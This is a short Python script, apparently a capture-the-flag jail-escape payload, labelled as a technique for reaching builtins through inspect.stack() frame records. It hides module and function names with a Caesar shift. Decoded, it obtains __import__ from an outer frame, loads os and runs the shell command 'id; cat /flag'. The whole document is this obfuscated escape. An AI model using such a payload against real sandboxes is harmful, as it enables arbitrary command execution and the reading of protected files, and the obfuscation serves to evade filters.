# technique: inspect.stack() frame records expose outer f_builtins; names decoded from a shifted alphabet
import importlib as _il

def caesar(t, k=-3):
    return "".join(chr((ord(c) - 97 + k) % 26 + 97) if c.isalpha() else c for c in t)

insp = _il.import_module(caesar("lqvshfw"))
for rec in insp.stack():
    fb = rec.frame.f_builtins
    key = "__" + caesar("lpsruw") + "__"
    if key in fb:
        mod = fb[key](caesar("rv"))
        getattr(mod, caesar("vbvwhp"))(caesar("lg; fdw /iodj"))
        break
